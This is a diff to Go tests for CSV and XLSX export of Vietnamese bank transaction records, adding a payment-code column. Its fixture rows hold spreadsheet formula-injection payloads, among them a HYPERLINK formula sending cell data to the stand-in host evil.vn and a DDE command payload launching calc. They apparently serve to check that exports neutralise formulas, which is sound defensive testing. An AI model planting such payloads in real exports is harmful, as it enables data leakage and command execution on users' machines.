@@ -66,11 +66,11 @@ func TestCSV(t *testing.T) {
 	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
 	must(t, err)
 	want := [][]string{
-		{"Mã baoco", "Thời gian", "Ngân hàng", "Số tài khoản", "Tiền vào", "Tiền ra", "Nội dung", "Mã giao dịch", "Ghi nhận lúc", "Ngày giờ là lúc nhận", "Ghi chú cửa hàng"},
-		{"1", "2026-11-21 10:59:00", "ACB", "0072413870", "1549000", "", "DH10293 thanh toán", "FT00A", "2026-11-21 11:00:01", "0", ""},
-		{"2", "2026-11-21 10:59:01", "ACB", "0072413870", "", "1549001", `'=HYPERLINK("http://evil.vn?"&A1,"x")`, "FT00B", "2026-11-21 11:00:01", "0", ""},
-		{"3", "2026-11-21", "ACB", "0072413870", "1549002", "", "'+cmd|' /C calc'!A0", "FT00C", "2026-11-21 11:00:01", "0", ""},
-		{"4", "2026-11-21 11:00:01", "ACB", "0072413870", "1549003", "", "'-2+3", "FT00D", "2026-11-21 11:00:01", "1", "'=1+1"},
+		{"Mã baoco", "Thời gian", "Ngân hàng", "Số tài khoản", "Tiền vào", "Tiền ra", "Nội dung", "Mã giao dịch", "Ghi nhận lúc", "Ngày giờ là lúc nhận", "Ghi chú cửa hàng", "Mã thanh toán"},
+		{"1", "2026-11-21 10:59:00", "ACB", "0072413870", "1549000", "", "DH10293 thanh toán", "FT00A", "2026-11-21 11:00:01", "0", "", ""},
+		{"2", "2026-11-21 10:59:01", "ACB", "0072413870", "", "1549001", `'=HYPERLINK("http://evil.vn?"&A1,"x")`, "FT00B", "2026-11-21 11:00:01", "0", "", ""},
+		{"3", "2026-11-21", "ACB", "0072413870", "1549002", "", "'+cmd|' /C calc'!A0", "FT00C", "2026-11-21 11:00:01", "0", "", ""},
+		{"4", "2026-11-21 11:00:01", "ACB", "0072413870", "1549003", "", "'-2+3", "FT00D", "2026-11-21 11:00:01", "1", "'=1+1", ""},
 	}
 	if diff := cmp.Diff(want, rows[:5]); diff != "" {
 		t.Error(diff)
@@ -100,7 +100,7 @@ func TestXLSX(t *testing.T) {
 	rows, err := f.GetRows(names[0])
 	must(t, err)
 	want := [][]string{
-		{"baoco id", "Transaction date", "Bank", "Account number", "Money in", "Money out", "Content", "Transaction number", "Recorded at", "Date flagged", "Shop note"},
+		{"baoco id", "Transaction date", "Bank", "Account number", "Money in", "Money out", "Content", "Transaction number", "Recorded at", "Date flagged", "Shop note", "Payment code"},
 		{"1", "2026-11-21 10:59:00", "ACB", "0072413870", "1,549,000", "", "DH10293 thanh toán", "FT00A", "2026-11-21 11:00:01", "0"},
 		{"2", "2026-11-21 10:59:01", "ACB", "0072413870", "", "1,549,001", `=HYPERLINK("http://evil.vn?"&A1,"x")`, "FT00B", "2026-11-21 11:00:01", "0"},
 		{"3", "2026-11-21", "ACB", "0072413870", "1,549,002", "", "+cmd|' /C calc'!A0", "FT00C", "2026-11-21 11:00:01", "0"},
